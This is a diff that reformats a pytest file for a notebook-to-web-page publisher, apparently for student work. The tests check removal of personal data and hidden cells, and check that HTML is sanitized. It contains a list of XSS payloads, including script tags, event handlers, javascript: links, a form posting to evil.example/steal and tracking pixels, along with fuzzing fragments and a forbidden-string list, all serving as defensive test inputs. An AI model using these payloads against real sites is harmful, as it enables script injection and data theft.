@@ -45,24 +45,41 @@ HOSTILE = [
     "<script>document.title='PWNED'</script>",
     "<img src=x onerror=\"document.title='PWNED'\">",
     "[click me](javascript:alert(1))",
-    "<a href=\"javascript:alert(1)\">link</a>",
-    "<a href=\"data:text/html,<script>alert(1)</script>\">data link</a>",
-    "<iframe src=\"https://evil.example/\"></iframe>",
-    "<form action=\"https://evil.example/steal\"><input name=q><button>Go</button></form>",
+    '<a href="javascript:alert(1)">link</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
+    '<iframe src="https://evil.example/"></iframe>',
+    '<form action="https://evil.example/steal"><input name=q><button>Go</button></form>',
     "<style>body{background:url(https://evil.example/bg.png)}</style>",
-    "<div style=\"background-image: url(https://evil.example/x.png)\">styled</div>",
-    "<span style=\"color: u\\rl(https://evil.example/)\">escaped</span>",
-    "<svg onload=\"alert(1)\"><circle r=5 /></svg>",
-    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
-    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
-    "<base href=\"https://evil.example/\">",
-    "<object data=\"https://evil.example/x.swf\"></object>",
-    "<img src=\"https://tracker.example/pixel.png\" alt=\"tracker\">",
+    '<div style="background-image: url(https://evil.example/x.png)">styled</div>',
+    '<span style="color: u\\rl(https://evil.example/)">escaped</span>',
+    '<svg onload="alert(1)"><circle r=5 /></svg>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<base href="https://evil.example/">',
+    '<object data="https://evil.example/x.swf"></object>',
+    '<img src="https://tracker.example/pixel.png" alt="tracker">',
     "<body onload=alert(1)>",
     "<details open ontoggle=alert(1)><summary>x</summary></details>",
 ]
-FORBIDDEN = ["<script", "onerror", "onload", "ontoggle", "javascript:", "<iframe", "<form", "url(", "evil.example",
-             "tracker.example", "data:text/html", "<svg", "<object", "<link", "<base", "refresh", "pwned"]
+FORBIDDEN = [
+    "<script",
+    "onerror",
+    "onload",
+    "ontoggle",
+    "javascript:",
+    "<iframe",
+    "<form",
+    "url(",
+    "evil.example",
+    "tracker.example",
+    "data:text/html",
+    "<svg",
+    "<object",
+    "<link",
+    "<base",
+    "refresh",
+    "pwned",
+]
 
 
 # --- making inputs -------------------------------------------------------------------------
@@ -90,26 +107,45 @@ def b64(data: bytes) -> str:
 
 def widget_state() -> dict[str, Any]:
     def model(name: str, state: dict[str, Any], buffers: list[dict[str, Any]] | None = None) -> dict[str, Any]:
-        entry: dict[str, Any] = {"model_name": name, "model_module": "@jupyter-widgets/controls",
-                                 "model_module_version": "2.0.0", "state": {"_model_name": name, **state}}
+        entry: dict[str, Any] = {
+            "model_name": name,
+            "model_module": "@jupyter-widgets/controls",
+            "model_module_version": "2.0.0",
+            "state": {"_model_name": name, **state},
+        }
         if buffers:
             entry["buffers"] = buffers
         return entry
 
     return {
-        "version_major": 2, "version_minor": 0,
+        "version_major": 2,
+        "version_minor": 0,
         "state": {
-            "box": model("VBoxModel", {"children": ["IPY_MODEL_label", "IPY_MODEL_pic", "IPY_MODEL_tools",
-                                                    "IPY_MODEL_story", "IPY_MODEL_sound"]}),
+            "box": model(
+                "VBoxModel",
+                {
+                    "children": [
+                        "IPY_MODEL_label",
+                        "IPY_MODEL_pic",
+                        "IPY_MODEL_tools",
+                        "IPY_MODEL_story",
+                        "IPY_MODEL_sound",
+                    ]
+                },
+            ),
             "label": model("LabelModel", {"value": f"Saved in /home/{USER}/art by {USER}"}),
-            "pic": model("ImageModel", {"format": "png", "width": "200"},
-                         [{"encoding": "base64", "path": ["value"], "data": b64(png_bytes("purple"))}]),
+            "pic": model(
+                "ImageModel",
+                {"format": "png", "width": "200"},
+                [{"encoding": "base64", "path": ["value"], "data": b64(png_bytes("purple"))}],
+            ),
             "tools": model("HBoxModel", {"children": ["IPY_MODEL_row", "IPY_MODEL_paint"]}),
             "row": model("DropdownModel", {"description": "Row:", "_options_labels": ["1", "2"], "index": 0}),
             "paint": model("ButtonModel", {"description": "Paint square"}),
             "story": model("TextareaModel", {"description": "My story", "value": "The cat flew to the moon."}),
-            "sound": model("AudioModel", {"format": "wav"},
-                           [{"encoding": "base64", "path": ["value"], "data": b64(wav_bytes())}]),
+            "sound": model(
+                "AudioModel", {"format": "wav"}, [{"encoding": "base64", "path": ["value"], "data": b64(wav_bytes())}]
+            ),
             "orphan": model("TextModel", {"value": "ORPHAN_SECRET from a deleted cell"}),
         },
     }
@@ -118,56 +154,135 @@ def widget_state() -> dict[str, Any]:
 def hostile_notebook() -> dict[str, Any]:
     """A notebook holding everything a published copy must lose, and a little it must keep."""
     return {
-        "nbformat": 4, "nbformat_minor": 5,
+        "nbformat": 4,
+        "nbformat_minor": 5,
         "metadata": {
             "kernelspec": {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"},
             "language_info": {"name": "python", "version": "3.11.2", "file_extension": ".py"},
-            "authors": [{"name": USER}], "nbgrader": {"assignment": "AUTHOR_METADATA"},
+            "authors": [{"name": USER}],
+            "nbgrader": {"assignment": "AUTHOR_METADATA"},
             "widgets": {WIDGET_STATE: widget_state()},
         },
         "cells": [
-            {"cell_type": "markdown", "id": f"{USER}-1", "metadata": {"editable": False, "author": "CELL_METADATA"},
-             "source": f"# My pet\n\nBy {USER}, kept in {HOMES[1]}/pets. Mail ana.garcia@school.example.org\n\n"
-                       f"![my pet]({USER}_pet.png) and ![attached](attachment:pic.png)\n\n" + "\n\n".join(HOSTILE),
-             "attachments": {"pic.png": {"image/png": b64(png_bytes("green"))}}},
-            {"cell_type": "code", "id": "c2", "execution_count": 7,
-             "metadata": {"collapsed": False, "scrolled": True,
-                          "execution": {"iopub.execute_input": "2026-11-02T10:00:00Z"}},
-             "source": f"pet = open('/home/{USER}/pet.png', 'rb').read()\nprint('hello from {USER}')",
-             "outputs": [
-                 {"output_type": "stream", "name": "stdout", "text": f"hello from {USER} in /home/{OTHER}/x\n"},
-                 {"output_type": "stream", "name": "stderr", "text": "STDERR_WARNING in /srv/secret\n"},
-                 {"output_type": "execute_result", "execution_count": 7, "metadata": {},
-                  "data": {"text/plain": f"'{HOMES[0]}/pet.png'",
-                           "text/html": f"<b>{USER}</b> at {HOMES[1]}<script>alert(1)</script>",
-                           "application/json": {"user": USER, USER: "key"},
-                           "application/javascript": "alert('JS_OUTPUT')"}},
-                 {"output_type": "display_data", "metadata": {"image/png": {"width": 120}},
-                  "data": {"image/png": b64(png_bytes("blue")), "text/plain": "<Figure>"}},
-                 {"output_type": "display_data", "metadata": {}, "data": {"image/png": b64(b"GIF89a not a png")}},
-                 {"output_type": "error", "ename": "ZeroDivisionError", "evalue": "TRACEBACK_VALUE",
-                  "traceback": [f"Traceback (most recent call last):\n  File /home/{USER}/x.py"]},
-             ]},
-            {"cell_type": "code", "id": "c3", "execution_count": 8, "metadata": {"tags": ["remove_cell"]},
-             "source": "SECRET_CELL = 1", "outputs": []},
-            {"cell_type": "code", "id": "c4", "execution_count": 9, "metadata": {"tags": ["Remove-Output"]},
-             "source": "print('x')", "outputs": [{"output_type": "stream", "name": "stdout", "text": "SECRET_OUTPUT"}]},
-            {"cell_type": "code", "id": "c5", "execution_count": 10, "metadata": {"jupyter": {"outputs_hidden": True}},
-             "source": "print('y')", "outputs": [{"output_type": "stream", "name": "stdout", "text": "COLLAPSED_OUT"}]},
-            {"cell_type": "code", "id": "c6", "execution_count": 11, "metadata": {"tags": ["hide-input"]},
-             "source": "HIDDEN_CODE = 2", "outputs": []},
-            {"cell_type": "code", "id": "c7", "execution_count": 12, "metadata": {},
-             "source": "answer = 42\n### BEGIN HIDDEN TESTS\nassert ANSWER_KEY == 42\n### END HIDDEN TESTS\n",
-             "outputs": [{"output_type": "display_data", "metadata": {},
-                          "data": {WIDGET_VIEW: {"model_id": "box", "version_major": 2, "version_minor": 0},
-                                   "text/plain": "VBox(children=...)"}}]},
-            {"cell_type": "code", "id": "c8", "execution_count": 13, "metadata": {"tags": ["hidden"]},
-             "source": "print('t')", "outputs": [{"output_type": "display_data", "metadata": {},
-                                                  "data": {WIDGET_VIEW: {"model_id": "orphan"}}}]},
-            {"cell_type": "code", "id": "c9", "execution_count": 14, "metadata": {},
-             "source": "gone_widget", "outputs": [{"output_type": "display_data", "metadata": {},
-                                                   "data": {WIDGET_VIEW: {"model_id": "never-saved"},
-                                                            "text/plain": "Button()"}}]},
+            {
+                "cell_type": "markdown",
+                "id": f"{USER}-1",
+                "metadata": {"editable": False, "author": "CELL_METADATA"},
+                "source": f"# My pet\n\nBy {USER}, kept in {HOMES[1]}/pets. Mail ana.garcia@school.example.org\n\n"
+                f"![my pet]({USER}_pet.png) and ![attached](attachment:pic.png)\n\n" + "\n\n".join(HOSTILE),
+                "attachments": {"pic.png": {"image/png": b64(png_bytes("green"))}},
+            },
+            {
+                "cell_type": "code",
+                "id": "c2",
+                "execution_count": 7,
+                "metadata": {
+                    "collapsed": False,
+                    "scrolled": True,
+                    "execution": {"iopub.execute_input": "2026-11-02T10:00:00Z"},
+                },
+                "source": f"pet = open('/home/{USER}/pet.png', 'rb').read()\nprint('hello from {USER}')",
+                "outputs": [
+                    {"output_type": "stream", "name": "stdout", "text": f"hello from {USER} in /home/{OTHER}/x\n"},
+                    {"output_type": "stream", "name": "stderr", "text": "STDERR_WARNING in /srv/secret\n"},
+                    {
+                        "output_type": "execute_result",
+                        "execution_count": 7,
+                        "metadata": {},
+                        "data": {
+                            "text/plain": f"'{HOMES[0]}/pet.png'",
+                            "text/html": f"<b>{USER}</b> at {HOMES[1]}<script>alert(1)</script>",
+                            "application/json": {"user": USER, USER: "key"},
+                            "application/javascript": "alert('JS_OUTPUT')",
+                        },
+                    },
+                    {
+                        "output_type": "display_data",
+                        "metadata": {"image/png": {"width": 120}},
+                        "data": {"image/png": b64(png_bytes("blue")), "text/plain": "<Figure>"},
+                    },
+                    {"output_type": "display_data", "metadata": {}, "data": {"image/png": b64(b"GIF89a not a png")}},
+                    {
+                        "output_type": "error",
+                        "ename": "ZeroDivisionError",
+                        "evalue": "TRACEBACK_VALUE",
+                        "traceback": [f"Traceback (most recent call last):\n  File /home/{USER}/x.py"],
+                    },
+                ],
+            },
+            {
+                "cell_type": "code",
+                "id": "c3",
+                "execution_count": 8,
+                "metadata": {"tags": ["remove_cell"]},
+                "source": "SECRET_CELL = 1",
+                "outputs": [],
+            },
+            {
+                "cell_type": "code",
+                "id": "c4",
+                "execution_count": 9,
+                "metadata": {"tags": ["Remove-Output"]},
+                "source": "print('x')",
+                "outputs": [{"output_type": "stream", "name": "stdout", "text": "SECRET_OUTPUT"}],
+            },
+            {
+                "cell_type": "code",
+                "id": "c5",
+                "execution_count": 10,
+                "metadata": {"jupyter": {"outputs_hidden": True}},
+                "source": "print('y')",
+                "outputs": [{"output_type": "stream", "name": "stdout", "text": "COLLAPSED_OUT"}],
+            },
+            {
+                "cell_type": "code",
+                "id": "c6",
+                "execution_count": 11,
+                "metadata": {"tags": ["hide-input"]},
+                "source": "HIDDEN_CODE = 2",
+                "outputs": [],
+            },
+            {
+                "cell_type": "code",
+                "id": "c7",
+                "execution_count": 12,
+                "metadata": {},
+                "source": "answer = 42\n### BEGIN HIDDEN TESTS\nassert ANSWER_KEY == 42\n### END HIDDEN TESTS\n",
+                "outputs": [
+                    {
+                        "output_type": "display_data",
+                        "metadata": {},
+                        "data": {
+                            WIDGET_VIEW: {"model_id": "box", "version_major": 2, "version_minor": 0},
+                            "text/plain": "VBox(children=...)",
+                        },
+                    }
+                ],
+            },
+            {
+                "cell_type": "code",
+                "id": "c8",
+                "execution_count": 13,
+                "metadata": {"tags": ["hidden"]},
+                "source": "print('t')",
+                "outputs": [
+                    {"output_type": "display_data", "metadata": {}, "data": {WIDGET_VIEW: {"model_id": "orphan"}}}
+                ],
+            },
+            {
+                "cell_type": "code",
+                "id": "c9",
+                "execution_count": 14,
+                "metadata": {},
+                "source": "gone_widget",
+                "outputs": [
+                    {
+                        "output_type": "display_data",
+                        "metadata": {},
+                        "data": {WIDGET_VIEW: {"model_id": "never-saved"}, "text/plain": "Button()"},
+                    }
+                ],
+            },
             {"cell_type": "raw", "id": "c10", "metadata": {}, "source": "RAW_SECRET"},
         ],
     }
@@ -178,10 +293,22 @@ def piece_files() -> dict[str, bytes]:
         "pet.ipynb": json.dumps(hostile_notebook()).encode(),
         f"{USER}_pet.png": png_bytes("orange"),
         "beat.wav": wav_bytes(),
-        "story.md": ("# The story\n\nWritten by " + USER + " in /home/" + USER + "\n\n"
-                     + "\n\n".join(HOSTILE) + f"\n\n![pet]({USER}_pet.png)").encode(),
-        "poem.html": ("<html><head><title>TITLE_TEXT</title><script>x()</script></head><body><p>A poem by "
-                      + USER + "</p>" + "".join(h for h in HOSTILE if h.startswith("<")) + "</body></html>").encode(),
+        "story.md": (
+            "# The story\n\nWritten by "
+            + USER
+            + " in /home/"
+            + USER
+            + "\n\n"
+            + "\n\n".join(HOSTILE)
+            + f"\n\n![pet]({USER}_pet.png)"
+        ).encode(),
+        "poem.html": (
+            "<html><head><title>TITLE_TEXT</title><script>x()</script></head><body><p>A poem by "
+            + USER
+            + "</p>"
+            + "".join(h for h in HOSTILE if h.startswith("<"))
+            + "</body></html>"
+        ).encode(),
         "notes.txt": f"notes of {USER} <script>x</script>".encode(),
         "data.csv": f"name,score\n{USER},3\nben,4\n".encode(),
         "my_pet.json": json.dumps({"kind": "pixel_canvas", "by": USER, "path": HOMES[0]}).encode(),
@@ -201,8 +328,16 @@ def published_notebook(snapshot: dict[str, bytes]) -> dict[str, Any]:
 
 
 def test_user_names_homes_and_e_mail_disappear_from_every_byte(snapshot: dict[str, bytes]) -> None:
-    assert set(snapshot) == {"pet.ipynb", "ana-g_pet.png", "beat.wav", "story.md", "poem.html", "notes.txt",
-                             "data.csv", "my_pet.json"}
+    assert set(snapshot) == {
+        "pet.ipynb",
+        "ana-g_pet.png",
+        "beat.wav",
+        "story.md",
+        "poem.html",
+        "notes.txt",
+        "data.csv",
+        "my_pet.json",
+    }
     for name, data in snapshot.items():
         for secret in (USER, OTHER, "/home/", "/homes/", "school.example.org"):
             assert secret not in name
@@ -225,9 +360,25 @@ def test_a_name_is_replaced_only_as_a_whole_word() -> None:
 
 def test_hidden_cells_outputs_tracebacks_and_metadata_are_gone(snapshot: dict[str, bytes]) -> None:
     raw = snapshot["pet.ipynb"].decode()
-    for gone in ("SECRET_CELL", "SECRET_OUTPUT", "COLLAPSED_OUT", "STDERR_WARNING", "TRACEBACK_VALUE", "Traceback",
-                 "ZeroDivisionError", "RAW_SECRET", "ANSWER_KEY", "JS_OUTPUT", "ORPHAN_SECRET", "AUTHOR_METADATA",
-                 "CELL_METADATA", "iopub", "scrolled", "3.11.2", "GIF89a"):
+    for gone in (
+        "SECRET_CELL",
+        "SECRET_OUTPUT",
+        "COLLAPSED_OUT",
+        "STDERR_WARNING",
+        "TRACEBACK_VALUE",
+        "Traceback",
+        "ZeroDivisionError",
+        "RAW_SECRET",
+        "ANSWER_KEY",
+        "JS_OUTPUT",
+        "ORPHAN_SECRET",
+        "AUTHOR_METADATA",
+        "CELL_METADATA",
+        "iopub",
+        "scrolled",
+        "3.11.2",
+        "GIF89a",
+    ):
         assert gone not in raw, gone
     notebook = published_notebook(snapshot)
     nbformat.validate(nbformat.reads(raw, as_version=4))
@@ -263,8 +414,11 @@ def test_hidden_cells_outputs_tracebacks_and_metadata_are_gone(snapshot: dict[st
         ({"pet.ipynb": b"{not json"}, "bad-notebook", "pet.ipynb"),
         ({"pet.ipynb": b'{"cells": "nope", "nbformat": 4}'}, "bad-notebook", "pet.ipynb"),
         ({"pet.ipynb": b"[1, 2, 3]"}, "bad-notebook", "pet.ipynb"),
-        ({"pet.ipynb": b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [42]}'}, "bad-notebook",
-         "pet.ipynb"),
+        (
+            {"pet.ipynb": b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [42]}'},
+            "bad-notebook",
+            "pet.ipynb",
+        ),
         ({"story.md": "caf\u00e9".encode("latin-1")}, "bad-text", "story.md"),
         ({"pet.json": b"{oops"}, "bad-text", "pet.json"),
         ({"huge.txt": b"x" * 5_000_001}, "too-large", "huge.txt"),
@@ -302,8 +456,9 @@ def test_two_files_that_would_get_one_name_are_refused() -> None:
 
 @pytest.fixture(scope="module")
 def page(snapshot: dict[str, bytes]) -> str:
-    return render_page(snapshot, title="My <b>pet</b>", author_display=DISPLAY,
-                       live_url="/services/showcase/p/t0k/live")
+    return render_page(
+        snapshot, title="My <b>pet</b>", author_display=DISPLAY, live_url="/services/showcase/p/t0k/live"
+    )
 
 
 def test_hostile_markdown_and_html_come_out_inert(page: str) -> None:
@@ -334,7 +489,7 @@ def test_page_has_every_picture_and_sound_inline_and_no_code(page: str, snapshot
     assert "Paint square" not in page and "Row:" not in page  # a control row means nothing without a kernel
     assert "This part is interactive: open the live version to play with it." in page  # the unsaved widget
     assert "VBox(children" not in page and "Button()" not in page
-    assert "<th scope=\"col\">score</th>" in page and "notes of Ana G. &lt;script&gt;x&lt;/script&gt;" in page
+    assert '<th scope="col">score</th>' in page and "notes of Ana G. &lt;script&gt;x&lt;/script&gt;" in page
     assert 'href="/services/showcase/p/t0k/live">Play with it</a>' in page
     assert "Made by Ana G." in page and 'lang="en"' in page
 
@@ -349,8 +504,13 @@ def test_show_code_shows_code_but_not_hidden_input(snapshot: dict[str, bytes]) -
 def test_spanish_page_speaks_spanish(snapshot: dict[str, bytes]) -> None:
     page = render_page(snapshot, title="Mi mascota", author_display=DISPLAY, lang="es-MX", live_url="/p/x")
     assert '<html lang="es">' in page
-    for words in ("Creado por Ana G.", ">Pruébalo</a>", "Publicado con la aprobación de un docente",
-                  "Esta parte es interactiva", "al principio de esta página"):
+    for words in (
+        "Creado por Ana G.",
+        ">Pruébalo</a>",
+        "Publicado con la aprobación de un docente",
+        "Esta parte es interactiva",
+        "al principio de esta página",
+    ):
         assert words in page, words
     assert "Made by" not in page and "Play with it" not in page
     assert page_language("fr") == "en" and page_language("ES_es") == "es" and page_language("") == "en"
@@ -405,11 +565,38 @@ def _attributes(html_text: str, name: str) -> list[str]:
     return [value for attribute, value in parser.attributes if attribute == name]
 
 
-_PIECES = st.sampled_from(HOSTILE + [
-    "<", ">", "\"", "'", "=", " on", "onerror", "onclick=", "<scr", "ipt>", "<img", "<a href=", "javascript:",
-    "java\tscript:", "&#106;avascript:", "<!--", "-->", "<![CDATA[", "]]>", "`", "\n\n", "    ", "<svg/onload=",
-    "<math><mi xlink:href=", "<style>", "</style>", "<noscript><p title=\"</noscript><img src=x onerror=1>\">",
-])
+_PIECES = st.sampled_from(
+    HOSTILE
+    + [
+        "<",
+        ">",
+        '"',
+        "'",
+        "=",
+        " on",
+        "onerror",
+        "onclick=",
+        "<scr",
+        "ipt>",
+        "<img",
+        "<a href=",
+        "javascript:",
+        "java\tscript:",
+        "&#106;avascript:",
+        "<!--",
+        "-->",
+        "<![CDATA[",
+        "]]>",
+        "`",
+        "\n\n",
+        "    ",
+        "<svg/onload=",
+        "<math><mi xlink:href=",
+        "<style>",
+        "</style>",
+        '<noscript><p title="</noscript><img src=x onerror=1>">',
+    ]
+)
 
 
 @settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@@ -421,8 +608,9 @@ def test_the_sanitizer_never_lets_a_script_or_a_handler_through(parts: list[str]
     parser = _Tags()
     parser.feed(cleaned)
     parser.close()
-    assert not {"script", "iframe", "style", "svg", "math", "form", "object", "embed", "base", "meta",
-                "link"} & set(parser.tags)
+    assert not {"script", "iframe", "style", "svg", "math", "form", "object", "embed", "base", "meta", "link"} & set(
+        parser.tags
+    )
     for name, value in parser.attributes:
         assert not name.startswith("on"), name
         if name in ("href", "src"):
@@ -444,8 +632,9 @@ def pixel_pets(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
     with pytest.MonkeyPatch.context() as env:  # the kernel's files stay in the test's own folders
         for name in ("JUPYTER_CONFIG_DIR", "JUPYTER_RUNTIME_DIR", "IPYTHONDIR"):
             env.setenv(name, str(jupyter / name.lower()))
-        nbclient.NotebookClient(notebook, timeout=180, kernel_name="python3",
-                                resources={"metadata": {"path": str(folder)}}).execute()
+        nbclient.NotebookClient(
+            notebook, timeout=180, kernel_name="python3", resources={"metadata": {"path": str(folder)}}
+        ).execute()
     files = {"pixel-pets.ipynb": nbformat.writes(notebook).encode()}
     for name in ("my_pop_art.png", "my_pet.json"):
         files[name] = (folder / name).read_bytes()
@@ -467,11 +656,14 @@ def test_an_executed_workbook_makes_a_light_page_with_its_creation_inline(pixel_
 
 @pytest.mark.browser
 @pytest.mark.integration
-def test_the_page_on_a_phone_with_no_javascript(browser: Any, artifacts: Path, tmp_path: Path,
-                                                 pixel_pets: dict[str, bytes], snapshot: dict[str, bytes]) -> None:
+def test_the_page_on_a_phone_with_no_javascript(
+    browser: Any, artifacts: Path, tmp_path: Path, pixel_pets: dict[str, bytes], snapshot: dict[str, bytes]
+) -> None:
     page_file = tmp_path / "showcase.html"
-    page_file.write_text(render_page(pixel_pets, title="My pixel pet", author_display=DISPLAY,
-                                     live_url="/services/showcase/p/t0k/live"), encoding="utf-8")
+    page_file.write_text(
+        render_page(pixel_pets, title="My pixel pet", author_display=DISPLAY, live_url="/services/showcase/p/t0k/live"),
+        encoding="utf-8",
+    )
     context = browser.new_context(viewport={"width": 390, "height": 844}, java_script_enabled=False)
     try:
         phone = context.new_page()
